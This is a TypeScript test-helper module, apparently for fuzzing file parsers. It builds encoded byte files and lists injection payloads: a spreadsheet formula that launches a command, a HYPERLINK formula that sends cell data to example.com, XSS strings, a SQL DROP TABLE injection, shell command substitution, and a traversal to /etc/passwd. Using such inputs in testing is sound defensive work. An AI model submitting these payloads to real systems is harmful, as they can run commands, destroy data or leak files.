/** The building blocks of hostile files. */

const encoder = new TextEncoder()

export function utf8(text: string): Uint8Array {
  return encoder.encode(text)
}

/** Encodes each character as one byte: Latin-1, and any bytes at all. */
export function latin1(text: string): Uint8Array {
  return Uint8Array.from(text, (character) => character.charCodeAt(0))
}

export function utf16(text: string, order: 'le' | 'be', hasMark: boolean): Uint8Array {
  const marked = (hasMark ? '\uFEFF' : '') + text
  const bytes = new Uint8Array(marked.length * 2)
  const view = new DataView(bytes.buffer)
  for (let index = 0; index < marked.length; index += 1)
    view.setUint16(index * 2, marked.charCodeAt(index), order === 'le')
  return bytes
}

export function bytes(...parts: (Uint8Array | readonly number[])[]): Uint8Array {
  const joined = parts.flatMap((part) => Array.from(part))
  return Uint8Array.from(joined)
}

/** Returns pseudo-random bytes, the same for one seed. */
export function noise(length: number, seed: number): Uint8Array {
  let state = seed
  return Uint8Array.from({ length }, () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    return state >>> 24
  })
}

/** Text that has harmed other programs, each harmless as text. */
export const payloads: Readonly<Record<string, string>> = {
  formula: "=cmd|' /C calc'!A0",
  'formula with plus': '+1+1',
  'formula with at': '@SUM(1+1)*cmd|x',
  'formula after a tab': '\t=1+1',
  hyperlink: '=HYPERLINK("http://example.com?x="&A1,"click")',
  script: '<script>alert(1)</script>',
  image: '"><img src=x onerror=alert(1)>',
  'script address': 'javascript:alert(1)',
  sql: "'); DROP TABLE contacts; --",
  'sql or': "' OR '1'='1",
  template: '{{constructor.constructor("return 1")()}}',
  'template of strings': '${7*7}<%= 7*7 %>',
  shell: '$(touch /tmp/x); `id` | cat',
  path: '../../../../etc/passwd',
  'format string': '%s%n%x%d %00',
  'control characters': 'a\u0001\u0007\u0008\u001b[31m\u007fb',
  'right to left': '\u202egnp.exe\u202c',
  'bidi isolates': '\u2066a\u2069\u200f\u200e',
  'zero widths': 'a\u200b\u200c\u200d\u2060\ufeffb',
  'emoji family': '👩‍👩‍👧‍👦🏳️‍🌈👍🏿',
  'many accents': `Z${'\u0351\u036b\u0343'.repeat(60)}`,
  'line separators': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
  'private use': '\ue000\uffff\u{10ffff}',
  prototype: '__proto__',
  constructor: 'constructor',
  json: '{"$gt":""}',
  null: 'null',
  undefined: 'undefined',
  'not a number': 'NaN',
  'big number': '1e309',
  'leading zeros': '00049',
}
